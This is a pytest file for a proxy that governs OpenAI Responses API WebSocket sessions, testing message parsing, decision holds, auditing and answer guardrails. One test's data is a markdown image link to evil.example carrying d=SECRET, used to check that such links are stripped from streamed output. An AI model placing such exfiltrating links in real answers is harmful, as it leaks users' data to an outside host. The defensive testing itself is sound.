"""The Responses API's WebSocket mode: a response.create read as its HTTP body is, the server events
that begin and end a response, the error event a refusal becomes, and the stage that holds a
message back while it is decided without holding back anything the server sends."""

from __future__ import annotations

import asyncio
import json

import pytest
from mitmproxy.test import taddons, tflow
from mitmproxy.websocket import WebSocketMessage
from tests.unit.governance.agents.test_responses_calls import state
from wsproto.frame_protocol import Opcode

from tollgate.calls.call import Call, Route
from tollgate.configuration.config import parse_config
from tollgate.configuration.runtime import Loaded
from tollgate.formats.bodies.exact import Unreadable
from tollgate.formats.openai_responses import RESPONSES
from tollgate.formats.openai_responses.answer_guard import ResponsesSocketGuard
from tollgate.formats.openai_responses.socket import (
    SocketEvent,
    classify_response_create,
    socket_error,
    socket_event,
)
from tollgate.formats.usage import Usage
from tollgate.governance.agents.agents_settings import LinksSettings
from tollgate.governance.agents.answer_links import link_scanners
from tollgate.governance.agents.responses_socket_calls import ResponsesSocketCalls
from tollgate.governance.guardrails import detectors
from tollgate.governance.guardrails.answer import compiled_for
from tollgate.providers import PROVIDERS
from tollgate.proxy import patches
from tollgate.proxy.flows import CALL
from tollgate.proxy.runner import CallSteps
from tollgate.proxy.stages.transport.classify import check_upgrade
from tollgate.proxy.stages.transport.responses_socket import Guarded, ResponsesSocket, Session, _read
from tollgate.proxy.state import Shared
from tollgate.records.audit.audit_record import audit_record

# ---- what a message asks for


def test_a_response_create_is_read_as_its_http_body_and_always_streams():
    c = classify_response_create(
        {"type": "response.create", "model": "gpt-5", "input": "hi", "instructions": "be brief",
         "max_output_tokens": 50, "tools": [{"type": "web_search"}], "stream_id": "lane-1"}
    )  # fmt: skip
    assert (c.endpoint, c.model, c.unread) == (RESPONSES, "gpt-5", ())
    f = c.facts
    assert (f.stream, f.max_tokens, f.has_tools, f.has_system, f.message_count, f.answers) == (
        True,
        50,
        True,
        True,
        1,
        1,
    )


def test_a_warm_up_asks_for_no_answer_and_a_create_without_a_model_has_it_unread():
    assert classify_response_create({"type": "response.create", "model": "m", "generate": False}).facts.answers == 0
    assert classify_response_create({"type": "response.create", "model": "m", "generate": None}).facts.answers == 1
    c = classify_response_create({"type": "response.create", "prompt": {"id": "pmpt_1"}})
    assert (c.model, c.unread, c.facts.unread) == (None, ("model",), ("stored_prompt",))


@pytest.mark.parametrize(
    "message",
    [
        {"type": "response.create", "response": {"model": "gpt-5"}},  # the Realtime API's nesting
        {"type": "response.create", "model": "m", "generate": "false"},
        {"type": "response.create", "model": "m", "stream_id": 7},
        {"type": "response.create", "model": 5},
        {"type": "response.create", "model": "m", "max_output_tokens": "many"},
    ],
)
def test_a_create_not_read_exactly_is_refused_as_a_responses_call(message):
    with pytest.raises(Unreadable) as raised:
        classify_response_create(message)
    assert raised.value.endpoint == RESPONSES


def test_only_the_upgrade_of_v1_responses_is_a_session():
    openai = PROVIDERS["openai"]
    assert openai.classify("GET", "/v1/responses", None).session
    assert not openai.classify("GET", "/v1/responses/resp_1", None).session
    assert not openai.classify("POST", "/v1/responses", {"model": "m", "input": "x"}).session


def test_the_sessions_path_is_a_websocket_upgrade_or_refused():
    session = PROVIDERS["openai"].classify("GET", "/v1/responses", None)
    check_upgrade({b"upgrade": b"websocket"}, session)
    for headers in ({}, {b"upgrade": b"h2c"}):
        with pytest.raises(Unreadable):
            check_upgrade(headers, session)
    with pytest.raises(Unreadable):  # nor is any other OpenAI call upgraded
        check_upgrade({b"upgrade": b"websocket"}, PROVIDERS["openai"].classify("GET", "/v1/responses/r1", None))


# ---- what the server's events tell


def _event(kind: str, **fields: object) -> bytes:
    return json.dumps({"type": kind, "sequence_number": 1, **fields}).encode()


USAGE = {"input_tokens": 10, "output_tokens": 4, "total_tokens": 14, "input_tokens_details": {"cached_tokens": 2},
         "output_tokens_details": {"reasoning_tokens": 1}}  # fmt: skip


def test_the_events_that_begin_and_end_a_response_are_read():
    assert socket_event(_event("response.created", response={"id": "r1", "status": "in_progress"})) == SocketEvent(
        "created", None, "r1"
    )
    done = socket_event(_event("response.completed", stream_id="a", response={"id": "r1", "status": "completed",
                                                                              "usage": USAGE}))  # fmt: skip
    assert done == SocketEvent(
        "done",
        "a",
        "r1",
        Usage(
            input_tokens=10,
            output_tokens=4,
            total_tokens=14,
            cached_tokens=2,
            reasoning_tokens=1,
            finish_reason="completed",
        ),
    )
    incomplete = socket_event(
        _event(
            "response.incomplete",
            response={
                "id": "r2",
                "status": "incomplete",
                "usage": USAGE,
                "incomplete_details": {"reason": "max_output_tokens"},
            },
        )
    )
    assert incomplete is not None and incomplete.usage is not None
    assert incomplete.usage.finish_reason == "max_output_tokens"
    failed = socket_event(
        _event("response.failed", response={"id": "r3", "status": "failed", "error": {"code": "server_error"}})
    )
    assert failed is not None and failed.error == "the response failed: server_error"


def test_an_error_event_is_read_nested_as_the_websocket_sends_it_or_flat():
    nested = _event("error", status=400, stream_id="b", error={"type": "invalid_request_error",
                                                               "code": "previous_response_not_found", "message": "x"})  # fmt: skip
    assert socket_event(nested) == SocketEvent("error", "b", status=400, error="previous_response_not_found")
    assert socket_event(_event("error", code="rate_limit_exceeded", message="x")) == SocketEvent(
        "error", None, error="rate_limit_exceeded"
    )


def test_a_delta_whose_text_names_an_event_is_no_event():
    text = '"type":"response.completed","response":{"id":"r9"}'
    assert socket_event(_event("response.output_text.delta", delta=text)) is None
    assert socket_event(_event("response.output_item.done", item={"type": "error"})) is None
    assert socket_event(b'{"type":"response.completed"') is None  # not JSON


def test_a_refusal_becomes_the_error_event_openai_sends_with_its_headers_inside():
    body = {"error": {"message": "no", "type": "permission_denied", "param": None, "code": "policy_denied"}}
    assert socket_error(403, body, {"x-tollgate-error": "policy_denied"}, "lane") == {
        "type": "error",
        "status": 403,
        "stream_id": "lane",
        "error": {**body["error"], "headers": {"x-tollgate-error": "policy_denied"}},
    }


# ---- the stage


class Injected:
    """mitmproxy's proxy server as the stage sees it: what it was asked to inject."""

    name = "proxyserver"

    def __init__(self) -> None:
        self.messages: list[tuple[bool, bytes]] = []

    def inject_websocket(self, flow: object, to_client: bool, message: bytes, is_text: bool = True) -> None:
        self.messages.append((to_client, message))


def _session_flow() -> tuple:
    flow = tflow.twebsocketflow()
    flow.websocket.messages = []
    call = Call(
        Route.as_called("openai"),
        "api.openai.com",
        "GET",
        "/v1/responses",
        PROVIDERS["openai"].classify("GET", "/v1/responses", None),
    )
    call.caller.client = "alice"
    flow.metadata[CALL] = call
    return flow, call


def _message(flow, content: bytes, from_client: bool) -> WebSocketMessage:
    message = WebSocketMessage(Opcode.TEXT, from_client, content)
    flow.websocket.messages.append(message)
    return message


CREATE = b'{"type": "response.create", "model": "gpt-5", "input": "hi"}'
ACK = b'{"type": "response.processed", "response_id": "r0"}'


def test_a_message_awaiting_its_decision_holds_back_the_clients_later_ones_and_none_of_the_servers():
    proxy = Injected()
    decided: asyncio.Future[None] | None = None
    records: list[dict] = []

    def decide(flow, call):  # a decision not cached: awaited from the policy's worker
        nonlocal decided
        decided = asyncio.get_running_loop().create_future()
        return decided

    async def session() -> None:
        stage = ResponsesSocket(Shared(), CallSteps(decide), lambda call: records.append(audit_record(call)) or {})
        flow, _ = _session_flow()
        first = _message(flow, CREATE, from_client=True)
        stage.websocket_message(flow)
        assert first.dropped and proxy.messages == []  # held back, to be sent once allowed
        later = _message(flow, ACK, from_client=True)
        stage.websocket_message(flow)
        assert later.dropped  # its turn comes after the first's
        # The server's events of an earlier response go on meanwhile, read as they pass.
        server = _message(flow, _event("response.output_text.delta", delta="x"), from_client=False)
        stage.websocket_message(flow)
        assert not server.dropped and proxy.messages == []
        assert decided is not None
        decided.set_result(None)
        await asyncio.sleep(0)
        await asyncio.sleep(0)
        assert proxy.messages == [(False, CREATE), (False, ACK)]  # in the order they came
        for content in (_event("response.created", response={"id": "r1"}),
                        _event("response.completed", response={"id": "r1", "status": "completed", "usage": USAGE})):  # fmt: skip
            _message(flow, content, from_client=False)
            stage.websocket_message(flow)

    with taddons.context(proxy):
        asyncio.run(session())
    (record,) = records
    assert (record["client"], record["model"], record["status"], record["total_tokens"]) == ("alice", "gpt-5", 200, 14)
    assert (record["method"], record["transport"], record["decision"]) == ("POST", "websocket", "allow")


def test_a_decided_message_goes_on_in_place_and_an_error_before_its_response_ends_it():
    proxy = Injected()
    records: list[dict] = []
    stage = ResponsesSocket(
        Shared(), CallSteps(lambda flow, call: None), lambda c: records.append(audit_record(c)) or {}
    )
    flow, _ = _session_flow()
    with taddons.context(proxy):
        message = _message(flow, CREATE, from_client=True)
        stage.websocket_message(flow)
        assert not message.dropped and message.content == CREATE and proxy.messages == []
        _message(flow, _event("error", status=400, error={"type": "invalid_request_error", "code": "bad_model"}), False)
        stage.websocket_message(flow)
    (record,) = records
    assert (record["status"], record["error"]) == (400, "upstream error: bad_model")


def test_a_response_open_when_the_websocket_ends_is_audited_with_how_it_ended():
    records: list[dict] = []
    stage = ResponsesSocket(
        Shared(), CallSteps(lambda flow, call: None), lambda c: records.append(audit_record(c)) or {}
    )
    flow, session_call = _session_flow()
    with taddons.context(Injected()):
        _message(flow, CREATE, from_client=True)
        stage.websocket_message(flow)
        _message(flow, _event("response.created", response={"id": "r1"}), False)
        stage.websocket_message(flow)
        flow.websocket.close_code, flow.websocket.closed_by_client = 1006, False
        session_call.answer.error = (
            "the server closed the WebSocket with code 1006"  # as `WebSocket.websocket_end` says
        )
        stage.websocket_end(flow)
    (record,) = records
    assert (record["status"], record["error"]) == (
        200,
        "upstream broke off the response: the server closed the WebSocket with code 1006",
    )
    assert flow.metadata[CALL] == {
        "event": "responses_websocket",
        "client": "alice",
        "request_ids": [record["request_id"]],
    }
    assert flow.comment == "alice · openai · Responses WebSocket · 1 response · 0→0 tokens"


def test_draining_a_socket_ends_its_response_then_closes_it_and_takes_no_new_one(monkeypatch):
    closed: list[object] = []
    monkeypatch.setattr(patches, "close_websocket", closed.append)
    shared = Shared()
    records: list[dict] = []
    stage = ResponsesSocket(shared, CallSteps(lambda flow, call: None), lambda c: records.append(audit_record(c)) or {})
    busy, _ = _session_flow()
    idle, _ = _session_flow()
    proxy = Injected()
    with taddons.context(proxy):
        stage.websocket_start(idle)  # has carried nothing yet
        _message(busy, CREATE, from_client=True)
        stage.websocket_message(busy)
        _message(busy, _event("response.created", response={"id": "r1"}), False)
        stage.websocket_message(busy)
        shared.draining = True
        stage.drain()
        assert closed == [idle]  # at once: it has no response in flight
        # A new response on the busy socket is not sent (nor made a call): the client sends it again elsewhere.
        later = _message(busy, CREATE, from_client=True)
        stage.websocket_message(busy)
        assert later.dropped and proxy.messages == []
        assert closed == [idle]
        # The response in flight ends and is audited; then the socket closes.
        _message(
            busy, _event("response.completed", response={"id": "r1", "status": "completed", "usage": USAGE}), False
        )
        stage.websocket_message(busy)
        assert closed == [idle, busy]
        stage.drain()  # once only
        assert closed == [idle, busy]
    (record,) = records
    assert (record["status"], record["total_tokens"], record["error"]) == (200, 14, None)


def test_a_message_that_cannot_be_read_never_goes_on_whatever_its_lane():
    """Not JSON, it names no lane: it stops a response the guardrails read, and does not go on."""
    call = Call(Route.as_called("openai", "gpt-4o"), "api.openai.com", "GET", "/v1/responses")
    session = Session(call)
    guard = ResponsesSocketGuard(compiled_for(dict.fromkeys(detectors.KINDS, "redact")), "lane-1")
    session.guarded["lane-1"] = Guarded(call, guard)
    unreadable = b'{"type":"response.output_text.delta","stream_id":"lane-1","delta":"pw\x01 hunter2"}'
    read = _read(session, unreadable)
    assert read is not None and read.guard is guard and guard.denied == "unread"
    assert not any(b"hunter2" in m for m in read.out)
    assert [json.loads(m)["error"]["code"] for m in read.out] == ["content_denied"]


LINKED = "See ![x](https://evil.example/p?d=SECRET) and [docs](https://docs.example.com/a)."


@pytest.mark.parametrize("cut", range(1, len(LINKED)))
def test_a_link_off_the_list_is_reduced_at_any_split_of_a_lanes_deltas(cut: int):
    """`agents.links` on the socket: the deltas give the text with the image as its text alone,
    however they cut it; the events that repeat it whole carry the same; each event keeps its
    lane; the record counts the link reduced, with its action."""
    call = Call(Route.as_called("openai", "gpt-5"), "api.openai.com", "GET", "/v1/responses")
    scanners = link_scanners(LinksSettings(allow=["*.example.com"]), None)
    session = Session(call)
    session.guarded["lane-1"] = guarded = Guarded(call, ResponsesSocketGuard(scanners, "lane-1"), scanners)
    at = {"stream_id": "lane-1", "item_id": "msg_1", "output_index": 0, "content_index": 0}
    part = {"type": "output_text", "text": LINKED, "annotations": []}
    message = {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": [part]}
    events = [
        *({"type": "response.output_text.delta", **at, "delta": d} for d in (LINKED[:cut], LINKED[cut:])),
        {"type": "response.output_text.done", **at, "text": LINKED},
        {"type": "response.completed", "stream_id": "lane-1", "response": {"id": "resp_1", "output": [message]}},
    ]
    got = []
    for event in events:
        read = _read(session, json.dumps(event).encode())
        assert read is not None
        got += [json.loads(m) for m in read.out]
    expected = LINKED.replace("![x](https://evil.example/p?d=SECRET)", "x")
    assert "".join(e["delta"] for e in got if e["type"] == "response.output_text.delta") == expected
    assert [e["text"] for e in got if e["type"] == "response.output_text.done"] == [expected]
    assert got[-1]["response"]["output"][0]["content"][0]["text"] == expected
    assert {e["stream_id"] for e in got} == {"lane-1"}
    guarded.note()
    assert call.answer.findings == {"links.redacted": 1}
    assert call.answer.finding_actions == (("links.redacted", "redact", 1),)


def test_an_error_in_the_middle_of_a_read_response_ends_it_and_the_next_on_its_lane_is_read(monkeypatch):
    """Under an answer rule: an `error` event ends the response being read (audited with what was
    found), and the next response on the lane is a new one, read as the first was, not closed."""
    closed: list[object] = []
    monkeypatch.setattr(patches, "close_websocket", closed.append)
    shared = Shared()
    rules = {"guardrails": [{"on": ["answer"], "detect": ["pii.email"], "action": "redact"}]}
    shared.loaded = Loaded.build(parse_config(rules))
    records: list[dict] = []
    stage = ResponsesSocket(shared, CallSteps(lambda flow, call: None), lambda c: records.append(audit_record(c)) or {})
    flow, _ = _session_flow()
    events = [
        _event("response.created", response={"id": "r1"}),
        _event(
            "response.output_text.delta",
            item_id="m1",
            output_index=0,
            content_index=0,
            delta="to jane.doe@acme-corp.com ",
        ),
        _event(
            "response.output_text.done",
            item_id="m1",
            output_index=0,
            content_index=0,
            text="to jane.doe@acme-corp.com ",
        ),
        _event("error", error={"type": "server_error", "code": "server_error"}),
    ]
    later = [
        _event("response.created", response={"id": "r2"}),
        _event("response.completed", response={"id": "r2", "status": "completed", "usage": USAGE}),
    ]
    proxy = Injected()
    with taddons.context(proxy):
        for content, from_client in [(CREATE, True), *((e, False) for e in events), (CREATE, True)]:
            _message(flow, content, from_client)
            stage.websocket_message(flow)
        assert len(records) == 1
        for content in later:
            _message(flow, content, False)
            stage.websocket_message(flow)
    assert closed == []
    told = [json.loads(m) for to_client, m in proxy.messages if to_client]
    assert [e["type"] for e in told][-2:] == ["response.created", "response.completed"]  # read, gone on
    first, second = records
    assert (first["status"], first["error"], first["answer_findings"]) == (
        200,
        "upstream error: server_error",
        {"pii.email": 1},
    )
    assert (second["status"], second["error"], second["total_tokens"]) == (200, None, 14)
    assert second.get("cut") is None


def test_a_decider_whose_response_ended_reads_nothing_of_the_next_on_its_lane():
    """`agents` read a lane's last response to its end; the next one there is not decided (no
    `agents` for it): its events go as they came, none read by the last one's decider."""
    stage = ResponsesSocket(Shared(), CallSteps(lambda flow, call: None), lambda c: {})
    flow, _ = _session_flow()
    with taddons.context(Injected()):
        _message(flow, CREATE, from_client=True)
        stage.websocket_message(flow)
        session = stage._sessions[flow]
        earlier = ResponsesSocketCalls(state())
        earlier.ended = True  # its last event came
        session.decided[None] = (Call(Route.as_called("openai", "gpt-5"), "api.openai.com", "GET", "/"), earlier)
        for content in (
            _event("response.created", response={"id": "r2"}),
            _event("response.output_text.delta", delta="x"),
        ):
            message = _message(flow, content, False)
            stage.websocket_message(flow)
            assert not message.dropped and message.content == content
        assert session.decided == {}
